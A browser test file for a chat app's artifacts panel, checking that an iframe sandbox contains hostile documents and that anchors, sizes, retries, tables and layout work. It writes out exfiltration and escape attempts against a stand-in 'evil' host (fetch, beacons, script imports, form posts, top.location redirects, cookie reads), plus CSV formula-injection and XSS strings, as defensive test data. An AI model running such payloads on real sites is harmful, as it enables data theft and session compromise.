"""The artifacts panel in a real browser, with documents that mean no good (S14)."""

from __future__ import annotations

import contextlib
import json
import re
import socket
from collections.abc import Iterator
from threading import Thread

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Locator, Request, Route, expect

from tests.support.artifact_page import Reader, png, reading
from tests.support.browser import Site, Visitor, send_message

pytestmark = pytest.mark.browser

MB = 2**20


@pytest.fixture(scope="module")
def shared_reader(site: Site, browser: Browser, django_db_blocker: pytest.FixtureRequest) -> Iterator[Reader]:
    yield from reading(
        site, browser, django_db_blocker, "reads-artifacts", viewport={"width": 1280, "height": 800}
    )


@pytest.fixture
def reader(shared_reader: Reader) -> Iterator[Reader]:
    """One reader for all tests, and whatever a test did to its network is undone, also when it failed."""
    yield shared_reader
    shared_reader.page.unroute_all()
    shared_reader.visitor.outage = False


class Listener:
    """A foreign host: counts what it is told, and answers nobody. An empty connection that a browser opens in advance tells nothing."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.requests = 0
        Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                with contextlib.suppress(OSError):
                    self.requests += bool(connection.recv(1))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def evil() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


# --- anchors and links ---------------------------------------------------------------------------------

CONTENTS = (
    "<!doctype html><title>Long</title><style>section{height:700px}</style><a href='#' id=start>start</a>"
    + "".join(f"<p><a href='#part-{n}'><b>Part {n}</b></a></p>" for n in range(30))
    + "<a href='#caf%C3%A9'>café</a><a href='#named'>by name</a><a href='#nowhere'>nowhere</a>"
    + "<svg width=100 height=20><a href='#part-9'><text y=15 id=drawn>drawn</text></a></svg>"
    + "<a href='#part-3' onclick='event.stopPropagation()' id=stopped>stopped</a>"
    + "<a href='#part-4' onclick='return false' id=kept>kept</a><a href='https://example.org/a?b=1' id=out>out</a>"
    + "<a href='javascript:document.title=1' id=script>script</a><a href='/settings/' id=inner>inner</a>"
    + "".join(f"<section id=part-{n}>Section {n}</section>" for n in range(30))
    + "<section id='café'>Coffee</section><section><a name=named>Named</a></section>"
    + "<script>document.body.insertAdjacentHTML('afterbegin', \"<a href='#part-7' id=late>late</a>\")</script>"
)


def test_anchors_scroll_inside_and_the_browser_stays_where_it_is(reader: Reader) -> None:
    """A-S14.1: thirty anchors, nested, drawn, late, encoded, by name; nothing is added to the history"""
    reader.opens(reader.makes("contents.html", CONTENTS))
    page, frame = reader.page, reader.frame
    address, entries = page.url, page.evaluate("history.length")
    for number in range(30):
        frame.get_by_text(f"Part {number}", exact=True).evaluate("link => link.click()")
        expect(frame.locator(f"#part-{number}")).to_be_in_viewport(ratio=0.5)
    for link, target in {"drawn": "#part-9", "late": "#part-7", "stopped": "#part-3"}.items():
        frame.locator(f"#{link}").dispatch_event(
            "click", {"bubbles": True, "cancelable": True, "composed": True}
        )
        expect(frame.locator(target)).to_be_in_viewport(ratio=0.5)
    for words, target in {"café": "#café", "by name": "[name=named]"}.items():
        frame.get_by_text(words, exact=True).evaluate("link => link.click()")
        expect(frame.locator(target)).to_be_in_viewport()
    frame.locator("#start").evaluate("link => link.click()")
    expect(frame.locator("#start")).to_be_in_viewport()
    for still in ("#kept", "text=nowhere"):
        frame.locator(still).evaluate("link => link.click()")
        expect(frame.locator("#start")).to_be_in_viewport()
    assert page.url == address
    assert page.evaluate("history.length") == entries


def test_a_link_out_shows_its_address_before_it_opens_a_tab_without_opener(reader: Reader) -> None:
    """S14: only http(s), only from that frame, only while a person is at work in it"""
    reader.opens(reader.makes("contents.html", CONTENTS))
    page, frame = reader.page, reader.frame
    page.route("https://example.org/**", lambda route: route.fulfill(body="there"))
    link = frame.locator("#out")
    expect(link).to_be_attached()
    page.evaluate(
        "dispatchEvent(new MessageEvent('message', {data: {artifact: {kind: 'link', href: 'https://a.example'}}, origin: 'null'}))"
    )
    link.evaluate(
        "() => parent.postMessage({artifact: {kind: 'link', href: 'https://unasked.example'}}, '*')"
    )
    frame.locator("#inner").click()
    expect(page.locator("dialog[open]")).to_have_count(0)
    link.click()
    expect(page.locator("dialog[open]")).to_contain_text("https://example.org/a?b=1")
    with page.context.expect_page() as opened:
        page.get_by_role("link", name="Open in a new tab").last.click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("[opener, document.referrer]") == [None, ""]
    opened.value.close()
    for href in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "//evil.example", 7):
        link.evaluate("(link, href) => parent.postMessage({artifact: {kind: 'link', href}}, '*')", href)
    link.evaluate("() => parent.postMessage({artifact: {kind: '__proto__'}}, '*')")
    expect(page.locator("dialog[open]")).to_have_count(0)


# --- hostile documents ---------------------------------------------------------------------------------

ATTEMPTS = {
    "parent.document": "parent.document.title",
    "top.document": "top.document.body.innerHTML",
    "frameElement": "frameElement.remove()",
    "cookies": "document.cookie",
    "cookie set": "document.cookie = 'a=1'",
    "local storage": "localStorage.setItem('a', 'b')",
    "session storage": "sessionStorage.length",
    "databases": "indexedDB.open('x')",
    "caches": "await caches.open('x')",
    "top.location": "top.location = '{evil}/top'",
    "parent.location": "parent.location.href = '{evil}/parent'",
    "popup": "if (open('{evil}/popup') === null) throw Error('kept in')",
    "fetch": "await fetch('{evil}/fetch')",
    "fetch of ours": "await fetch('/api/v1/sessions')",
    "request": "await new Promise((r, j) => { const x = new XMLHttpRequest(); x.onload = r; x.onerror = j; x.open('GET', '{evil}/xhr'); x.send(); })",
    "beacon": "navigator.sendBeacon('{evil}/beacon'); throw Error()",
    "image of ours": "await new Promise((r, j) => { const i = new Image(); i.onload = r; i.onerror = j; i.src = '/static/images/logo.svg'; })",
    "script": "await new Promise((r, j) => { const s = document.createElement('script'); s.onload = r; s.onerror = j; s.src = '{evil}/s.js'; document.body.append(s); })",
    "module": "await import('{evil}/m.js')",
    "worker": "await new Promise((r, j) => { const w = new Worker(URL.createObjectURL(new Blob(['1']))); w.onmessage = r; w.onerror = j; })",
    "socket": "await new Promise((r, j) => { const s = new WebSocket('{evil}/ws'.replace('http', 'ws')); s.onopen = r; s.onerror = j; })",
    "events": "await new Promise((r, j) => { const s = new EventSource('{evil}/sse'); s.onopen = r; s.onerror = j; })",
    "eval": "eval('1')",
    "service worker": "await navigator.serviceWorker.register('/static/js/pages/base.js')",
    "frame": "await new Promise((r, j) => { const f = document.createElement('iframe'); f.src = '{evil}/frame'; document.addEventListener('securitypolicyviolation', j); document.body.append(f); })",
}
MARKUP = (
    "<!doctype html><html manifest='{evil}/m'><head><base href='{evil}/base/'>"
    "<link rel=stylesheet href='{evil}/style.css'><link rel=icon href='{evil}/icon.png'>"
    "<link rel=preload as=image href='{evil}/preload.png'><link rel=prefetch href='{evil}/prefetch'>"
    "<link rel=manifest href='{evil}/manifest.json'><link rel=modulepreload href='{evil}/module.js'>"
    "<style>@import '{evil}/import.css'; @font-face {{ font-family: x; src: url({evil}/font.woff) }} "
    "body {{ font-family: x; background: url({evil}/bg.png) }}</style></head><body>"
    "<img src=relative.png><img srcset='{evil}/set.png 1x'><video src='{evil}/film.mp4' autoplay></video>"
    "<audio src='{evil}/sound.mp3' autoplay></audio><object data='{evil}/object'></object><embed src='{evil}/embed'>"
    "<iframe src='{evil}/inner'></iframe><svg><image href='{evil}/svg.png'/><use href='{evil}/use.svg#a'/></svg>"
    "<form id=form action='{evil}/form' method=post><input name=a value=secret></form>"
    "<a id=ping href='#here' ping='{evil}/ping'>here</a><a id=save href='{evil}/save' download>save</a><p id=here>kept in</p>"
)
SCRIPT = """<script>
const outcomes = {};
const attempts = {%s};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { outcomes[name] = 'done: ' + await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 1500, 'silence'))]); }
    catch (problem) { outcomes[name] = 'kept in'; }
  }
  alert('x'); form.submit(); ping.click(); save.click();
  document.title = 'over'; window.outcomes = outcomes; here.textContent = 'tried everything';
})();
</script>"""


def hostile(evil: str) -> str:
    tries = ",".join(f"{json.dumps(name)}: async () => {{ {code}; }}" for name, code in ATTEMPTS.items())
    return MARKUP.format(evil=evil) + (SCRIPT % tries).replace("{evil}", evil)


def test_a_hostile_document_reaches_no_data_and_no_server(reader: Reader, evil: Listener) -> None:
    """A-S14.2: parent, cookies, storage, top, fetch, beacons, forms, popups, base: all fail, and no request leaves"""
    page, foreign = reader.page, f"http://127.0.0.1:{evil.port}"
    asked: list[str] = []
    page.context.on("response", lambda response: asked.append(response.url))  # a refused request has none
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("dialog", lambda dialog: asked.append("dialog"))
    page.context.on("page", lambda popup: asked.append(f"popup {popup.url}"))
    reader.opens(reader.makes("hostile.html", hostile(foreign)))
    expect(reader.frame.locator("#here")).to_have_text("tried everything", timeout=60_000)
    outcomes = reader.frame.locator("#here").evaluate("() => window.outcomes")
    assert outcomes == dict.fromkeys(ATTEMPTS, "kept in")
    assert (
        reader.frame.locator("#here").evaluate("() => [origin, isSecureContext && document.domain]")[0]
        == "null"
    )
    assert [url for url in asked if not url.startswith((reader.visitor.site.url, "blob:", "data:"))] == []
    assert evil.requests == 0
    assert len(page.context.pages) == 1
    expect(page.locator("#title")).to_have_text("Ship's papers")  # the chat is as it was
    reader.forgives()


@pytest.mark.parametrize(
    "flight",
    [
        "<script>location = '{evil}/own'</script>",
        "<meta http-equiv=refresh content='0; url={evil}/refresh'>",
        "<a id=go href='{evil}/a' target=_self>go</a><script>go.setAttribute('onclick', 'event.preventDefault=()=>{}'); go.click()</script>",
        "<script>setTimeout(() => location.replace('/settings/'), 50)</script>",
    ],
)
def test_a_document_cannot_leave_for_another_host(reader: Reader, evil: Listener, flight: str) -> None:
    """A-S14.2: its own location to a foreign host, a meta refresh, a page of ours"""
    foreign = f"http://127.0.0.1:{evil.port}"
    asked: list[str] = []
    reader.page.context.on("response", lambda response: asked.append(response.url))
    reader.opens(
        reader.makes("flight.html", "<!doctype html><p>Away</p>" + flight.replace("{evil}", foreign))
    )
    reader.page.wait_for_timeout(700)  # an absence has no event to wait for
    assert not any(url.startswith(foreign) for url in asked)
    assert evil.requests == 0
    assert reader.page.url.endswith(f"/chat/{reader.session_id}/")
    reader.page.get_by_label("Message", exact=True).fill("still here")
    assert all(not frame.url.startswith(foreign) for frame in reader.page.frames)
    reader.forgives()


def test_the_render_address_opened_in_a_tab_is_nothing(reader: Reader) -> None:
    """A-S14.2: the render URL opened in a tab → 404"""
    file_id = reader.makes("alone.html", "<script>document.title='ran'</script>")
    tab = reader.page.context.new_page()
    answer = tab.goto(f"{reader.visitor.site.url}/files/{file_id}/render")
    assert answer is not None
    assert answer.status == 404
    assert tab.title() != "ran"
    tab.close()


# --- sizes, loading, errors ------------------------------------------------------------------------------


def test_only_what_our_script_renders_has_a_largest_size(reader: Reader) -> None:
    """A-S14.3: 25 MB PNG is shown; 11 MB HTML is a download card; 10 MB exactly is rendered"""
    large = reader.makes("large.png", png(padding=25 * MB))
    over = reader.makes("over.html", b"<p id=p>over</p>".ljust(11 * MB))
    exact = reader.makes("exact.html", b"<p id=p>exact</p>".ljust(10 * MB))
    reader.opens(large)
    expect(reader.stage.locator("img")).to_have_js_property("naturalWidth", 320)
    reader.opens(over)
    expect(reader.stage.locator(".download-card")).to_contain_text("Too large to preview.")
    with reader.page.expect_download() as download:
        reader.stage.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "over.html"
    reader.opens(exact)
    expect(reader.frame.locator("#p")).to_have_text("exact")
    expect(reader.stage).to_be_visible()


def test_trying_again_shows_the_skeleton_at_once_and_requests_again(reader: Reader) -> None:
    """A-S14.4: failing fetch, Try again twice → skeleton each time, `_retry=1`, `_retry=2`"""
    asked: list[str] = []

    def fail(route: Route, request: Request) -> None:
        asked.append(request.url.partition("?")[2])
        route.abort()

    file_id = reader.makes("notes.md", "# Notes")
    reader.page.route(f"**/{file_id}/download?**", fail)
    reader.visitor.outage = True
    reader.opens(file_id)
    for count in (1, 2):
        expect(reader.panel.locator(".failure")).to_contain_text("Couldn't load this file")
        seen = reader.page.evaluate(
            """() => { [...document.querySelectorAll("#panel button")].find(b => b.textContent === "Try again").click();
            return [document.querySelectorAll("#panel .skeleton").length, document.querySelectorAll("#panel .failure").length]; }"""
        )
        assert seen == [1, 0], f"at try {count}"
    expect(reader.panel.locator(".failure")).to_be_visible()
    assert asked == ["inline=1", "inline=1&_retry=1", "inline=1&_retry=2"]
    reader.page.unroute_all()
    reader.panel.get_by_role("button", name="Try again").click()
    expect(reader.stage.get_by_role("heading", name="Notes")).to_be_visible()


@pytest.mark.parametrize(
    ("change", "words"), [("deleted", "was deleted or isn't available"), ("pending", "is being scanned")]
)
def test_what_is_gone_or_being_scanned_says_so(reader: Reader, change: str, words: str) -> None:
    """S14: 404 and 409 have words of their own, for a text and for a picture; here the page has missed the news"""
    names = (f"{change}.md", f"{change}.png")
    ids = [reader.makes(name, content) for name, content in zip(names, ("# A", png()), strict=True)]
    reader.load()

    def act() -> None:
        from copilot.models import WorkspaceFile

        values = {"deleted_at": timezone.now()} if change == "deleted" else {"scan": "pending"}
        WorkspaceFile.objects.filter(pk__in=ids).update(**values)

    reader.stored(act)
    for file_id, name in zip(ids, names, strict=True):
        reader.page.locator(f'.made [data-file="{file_id}"]').click()
        expect(reader.panel.locator("[data-slot=name]")).to_have_text(name)  # not the card of the one before
        expect(reader.panel.locator(".failure")).to_contain_text(words)
        again = reader.panel.get_by_role("button", name="Try again")
        expect(again).to_have_count(0 if change == "deleted" else 1)
        if change == "deleted":
            expect(offers(reader)).to_have_count(0)
    reader.forgives()


def offers(reader: Reader) -> Locator:
    """What can be done with the bytes of the file that the panel shows."""
    names = re.compile(r"^(Download|Try again|Open in a new tab|Copy content|Source)$")
    link = reader.panel.get_by_role("link", name=names)
    return reader.panel.get_by_role("button", name=names).or_(link)


@pytest.mark.parametrize(("name", "content"), [("old.md", "# Old"), ("old.png", png())])
def test_what_is_deleted_elsewhere_leaves_the_panel_and_comes_back(
    reader: Reader, name: str, content: str | bytes
) -> None:
    """S14: in another tab, or by the agent; the file that is looked at says so, and its card goes"""
    file_id = reader.makes(name, content)
    reader.opens(file_id)
    expect(reader.stage).to_be_visible()

    def act(name: str) -> None:
        from copilot.files import services as files
        from copilot.models import WorkspaceFile

        file = WorkspaceFile.objects.get(pk=file_id)
        getattr(files, name)(file.owner_id, file.pk)

    reader.stored(lambda: act("trash_file"))
    expect(reader.panel.locator(".failure")).to_contain_text("was deleted or isn't available")
    expect(offers(reader)).to_have_count(0)
    card = reader.page.locator(f'.made [data-file="{file_id}"]')
    expect(card).to_have_count(0)
    reader.stored(lambda: act("restore_file"))
    expect(card).to_be_visible()
    expect(reader.stage).to_be_visible()
    expect(offers(reader)).not_to_have_count(0)


def test_a_renderer_that_throws_leaves_the_chat_alone(reader: Reader) -> None:
    """A-S14.8: error card with a copy button, and the next message still streams"""
    broken = "export function render() { throw new TypeError('the reader tripped'); }"
    reader.page.route(
        "**/renderers/json.js", lambda route: route.fulfill(body=broken, content_type="text/javascript")
    )
    reader.opens(reader.makes("broken.json", "{}"))
    card = reader.panel.locator(".failure")
    expect(card).to_contain_text("Couldn't show this.")
    card.get_by_role("button", name="Copy details").click()
    expect(card.get_by_role("button", name="Copied")).to_be_visible()
    copied = reader.page.evaluate("navigator.clipboard.readText()")
    for part in (
        "type: application/json",
        "size: 2 bytes",
        "error: TypeError: the reader tripped",
        "json.js",
    ):
        assert part in copied
    send_message(reader.page, "and now?")
    expect(reader.page.locator(".row.answer .prose").last).to_contain_text("kill -9")
    expect(card).to_be_visible()


# --- tables ----------------------------------------------------------------------------------------------

ODD = (
    "name,age,link\n"
    '"Ada, of ""London""",36,"=HYPERLINK(""http://evil.example"",""click"")"\n'
    '"two\nlines",9\n'
    "Bob,100,<img src=x onerror=alert(1)>,extra,more\n"
    "wide," + ",".join(str(n) for n in range(199)) + "\n"
)


def test_a_table_is_text_in_cells_whatever_it_says(reader: Reader) -> None:
    """A-S14.7: formulas, ragged rows, 200 columns, quotes with newlines → text, no crash; sorted by a click"""
    reader.opens(reader.makes("odd.csv", ODD))
    rows = reader.stage.locator("tbody tr")
    expect(rows).to_have_count(4)
    expect(reader.stage.locator("thead th")).to_have_count(100)
    expect(reader.stage.locator(".viewer-note")).to_contain_text("100 of 200 columns")
    expect(rows.nth(0).locator("td").nth(0)).to_have_text('Ada, of "London"')
    expect(rows.nth(0).locator("td").nth(2)).to_have_text('=HYPERLINK("http://evil.example","click")')
    assert rows.nth(1).locator("td").nth(0).evaluate("cell => cell.textContent") == "two\nlines"
    expect(rows.nth(2).locator("td").nth(2)).to_have_text("<img src=x onerror=alert(1)>")
    assert reader.stage.locator("tbody a, tbody img").count() == 0
    age = reader.stage.get_by_role("button", name="age")
    for order, first in (("ascending", "0"), ("descending", "100")):
        age.click()
        expect(reader.stage.locator("th").nth(1)).to_have_attribute("aria-sort", order)
        expect(rows.nth(0).locator("td").nth(1)).to_have_text(first)
    reader.opens(reader.makes("long.tsv", "n\tm\n" + "".join(f"{n}\t=1+1\n" for n in range(1500))))
    expect(rows).to_have_count(1000)
    expect(reader.stage.locator(".viewer-note")).to_contain_text("first 1,000 rows")


# --- the panel itself --------------------------------------------------------------------------------------


def test_the_panel_is_closed_after_a_load_a_way_out_and_back_and_in_another_chat(reader: Reader) -> None:
    """A-S14.5: panel open, go to settings and back → closed; nothing of one session is seen in another"""
    page = reader.page
    reader.opens(reader.makes("secret.md", "# Secret of this chat"))
    expect(reader.stage.get_by_text("Secret of this chat")).to_be_visible()
    page.goto(f"{reader.visitor.site.url}/settings/")
    page.go_back()
    reader.visitor.is_connected(page)
    expect(reader.panel).to_be_hidden()
    assert page.locator("#panel .viewer *").count() == 0
    page.locator("#artifacts").click()
    expect(reader.panel.locator(".panel-list")).to_contain_text("secret.md")
    page.reload()
    expect(reader.panel).to_be_hidden()
    page.goto(f"{reader.visitor.site.url}/chat/")
    expect(page.locator("#artifacts")).to_be_hidden()
    assert "secret.md" not in page.locator("main").inner_text()


def test_the_handle_is_dragged_across_the_frame_and_ends_on_release(reader: Reader) -> None:
    """A-S14.6: far left, right across the iframe, released outside the window → stops; keys move it; it is kept"""
    page = reader.page
    reader.opens(reader.makes("wide.html", "<!doctype html><body style='background:teal;height:2000px'>"))
    expect(reader.stage).to_be_visible()
    handle = reader.panel.get_by_role("separator")

    def is_wide(pixels: int) -> None:
        expect(handle).to_have_attribute("aria-valuenow", str(pixels))
        assert round(reader.panel.bounding_box()["width"]) == pixels

    page.mouse.move(handle.bounding_box()["x"] + 5, 400)
    page.mouse.down()
    page.mouse.move(10, 400, steps=8)
    widest = 1280 - 272 - 360
    is_wide(widest)
    page.mouse.move(860, 420, steps=8)  # over the frame now
    is_wide(420)
    page.mouse.move(1400, 900, steps=4)
    page.mouse.up()
    is_wide(320)
    page.mouse.move(700, 400, steps=4)
    expect(page.locator("body")).not_to_have_attribute("data-resizing", "")
    is_wide(320)
    for key, expected in (
        ("ArrowLeft", 344),
        ("Shift+ArrowLeft", 440),
        ("ArrowRight", 416),
        ("Home", widest),
    ):
        handle.press(key)
        is_wide(expected)
    reader.opens(reader.makes("wide.md", "# Wide"))
    is_wide(widest)
    page.keyboard.press("Escape")
    expect(reader.panel).to_be_hidden()


def test_versions_of_one_name_source_copy_and_the_list(reader: Reader) -> None:
    """S14: name, type, size, version; preview, source, copy, download, open in a new tab"""
    reader.makes("plan.md", "# First plan")
    panel = reader.opens(reader.makes("plan.md", "# Second plan"))
    expect(reader.stage.get_by_role("heading", name="Second plan")).to_be_visible()
    panel.get_by_label("Version").select_option(label="Version 1 of 2")
    expect(reader.stage.get_by_role("heading", name="First plan")).to_be_visible()
    panel.get_by_role("button", name="Source").click()
    expect(reader.stage.locator("code")).to_have_text("# First plan")
    panel.get_by_role("button", name="Copy content").click()
    expect(panel.locator("[data-slot=copy] use")).to_have_attribute("href", "#i-check")
    assert reader.page.evaluate("navigator.clipboard.readText()") == "# First plan"
    with reader.page.expect_download() as download:
        panel.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "plan.md"
    panel.get_by_role("button", name="All artifacts").click()
    expect(
        panel.get_by_role("button", name=re.compile(r"plan\.md.*Markdown · 13 B.*version 2"))
    ).to_be_visible()


def test_a_code_block_of_an_answer_is_shown_by_its_place(reader: Reader) -> None:
    """S14: code blocks by message and index"""
    reader.says(
        "```python\n1\n```\n\n- in a list:\n\n  ```html\n  <h1>From a block</h1>\n  ```\n\n```svg\n<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>\n```\n"
    )
    reader.load()
    answer = reader.page.locator(".row.answer").last
    answer.get_by_role("button", name="Preview").first.click()
    expect(reader.frame.get_by_role("heading", name="From a block")).to_be_visible()
    answer.get_by_role("button", name="Preview").last.click()
    expect(reader.stage.locator("img")).to_have_js_property("naturalWidth", 9)


def test_what_the_agent_makes_opens_the_panel_once(ada: Visitor) -> None:
    """W4.5 artifact, S14: live, by the running turn; after a person closed it never by itself"""
    page = ada.log_in()
    send_message(page, "write a file")
    panel = page.locator("#panel")
    expect(panel.locator(".stage.ready")).to_contain_text("Notes from the demo")
    expect(page.locator("#artifacts")).to_contain_text("1")
    expect(page.locator("#announcer")).to_have_text("Answer finished.")
    expect(page.get_by_label("Message", exact=True)).to_be_focused()  # typing is not interrupted
    page.keyboard.press("Escape")
    expect(panel).to_be_hidden()
    send_message(page, "write a file")
    expect(page.locator("#artifacts")).to_contain_text("1")
    expect(page.locator(".made")).to_have_count(2)
    expect(panel).to_be_hidden()
    page.locator(".made button").first.click()
    expect(panel.get_by_label("Version")).to_be_visible()


def test_on_a_phone_the_panel_fills_the_screen(
    site: Site, browser: Browser, django_db_blocker: pytest.FixtureRequest
) -> None:
    """S14, W4.1: full screen on narrow windows, with the way back, and never by itself"""
    options = {"viewport": {"width": 390, "height": 780}, "has_touch": True, "is_mobile": True}
    for phone in reading(site, browser, django_db_blocker, "reads-on-a-phone", **options):
        panel = phone.opens(phone.makes("odd.csv", ODD))
        expect(phone.stage.locator("tbody tr")).to_have_count(4)
        assert panel.bounding_box() == {"x": 0, "y": 0, "width": 390, "height": 780}
        assert phone.page.evaluate("document.documentElement.scrollWidth") == 390
        expect(panel.get_by_role("separator")).to_be_hidden()
        panel.get_by_role("button", name="Close artifacts").click()
        expect(panel).to_be_hidden()
        expect(phone.page.locator(".made button")).to_be_focused()
